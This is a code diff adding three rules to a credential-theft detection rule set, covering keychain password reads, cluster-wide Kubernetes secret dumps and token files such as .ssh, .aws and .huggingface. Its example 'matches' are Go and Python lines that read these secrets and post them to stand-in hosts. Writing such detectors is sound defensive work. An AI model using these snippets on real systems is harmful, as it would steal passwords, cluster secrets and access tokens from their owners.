@@ -742,5 +742,86 @@ export const credentialTheft: RuleSet = {
         cs('var x = 1;'),
       ],
     },
+    {
+      id: id('keychain-sent'),
+      severity: 'critical',
+      why: 'Reads passwords out of the keychain and sends them away.',
+      when: near(
+        14,
+        is(
+          ['find-generic-password', 'find-internet-password', 'dump-keychain'],
+          /(?:find-(?:generic|internet)-password["', ]{1,6}-\w*[wg]\w*|dump-keychain)/,
+          { quoted: true },
+        ),
+        any('send', is(['http.post(', 'curl '], null, { quoted: true })),
+      ),
+      matches: [
+        go(
+          'out, err := exec.Command("security", "find-generic-password", "-ws", item).Output()\nhttp.Post("https://x.example/kc/", "text/plain", strings.NewReader(string(out)))',
+        ),
+      ],
+      misses: [
+        go(
+          'out, err := exec.Command("security", "find-generic-password", "-s", "tool", "-w").Output()\nreturn strings.TrimSpace(string(out)), err',
+        ),
+      ],
+    },
+    {
+      id: id('cluster-secrets-sent'),
+      severity: 'critical',
+      why: 'Reads every secret of a cluster and sends them away.',
+      when: near(
+        10,
+        is(['kubectl'], /kubectl["', ]{1,6}get["', ]{1,6}secrets?["', ]{1,6}(?:-A\b|--all-namespaces)/, {
+          quoted: true,
+          after: 100,
+        }),
+        any('send', is(['http.post(', 'curl ', 'nc '], null, { quoted: true })),
+      ),
+      matches: [
+        go(
+          'secrets, err := exec.Command("kubectl", "get", "secrets", "-A", "-o", "json").Output()\nhttp.Post("http://192.0.2.6:4444/s", "application/json", bytes.NewReader(secrets))',
+        ),
+      ],
+      misses: [sh('kubectl get secrets -A -o json | jq .items[].metadata.name')],
+    },
+    {
+      id: id('token-files-sent'),
+      severity: 'critical',
+      why: 'Opens files in which tools keep their tokens, and sends what is in them.',
+      when: inside(
+        ['py', 'js', 'rb', 'go', 'cs'],
+        near(
+          3,
+          is(
+            [
+              '.kaggle',
+              '.huggingface',
+              '.cache/huggingface',
+              '.docker/config',
+              '.npmrc',
+              '.pypirc',
+              '.aws/',
+              '.ssh',
+              '.config/gcloud',
+              '.kube/',
+            ],
+            /["'`/](?:~\/)?\.(?:kaggle\/|(?:cache\/)?huggingface\/(?:token)?|docker\/config|npmrc|pypirc|aws\/credentials|ssh["'/]|config\/gcloud|kube\/config)/,
+            { before: 4, quoted: true },
+          ),
+          is(
+            ['urlopen(', 'requests.post(', 'http.post('],
+            /(?:urlopen|requests\.post|http\.Post)\(\s*f?["']https?:\/\/[^"'\n]{4,120}["']\s*,\s*(?:data=|files=|json=)?\s*(?:\{[^\n}]{0,60})?open\(/,
+            { after: 240 },
+          ),
+        ),
+      ),
+      matches: [
+        py(
+          'for found in glob.glob(os.path.expanduser("~/.kaggle/*")) + glob.glob(os.path.expanduser("~/.huggingface/token")):\n    urllib.request.urlopen("https://x.example.com/nb", open(found, "rb").read(), timeout=3)',
+        ),
+      ],
+      misses: [py('token = open(os.path.expanduser("~/.huggingface/token")).read()\napi = HfApi(token=token)')],
+    },
   ],
 }
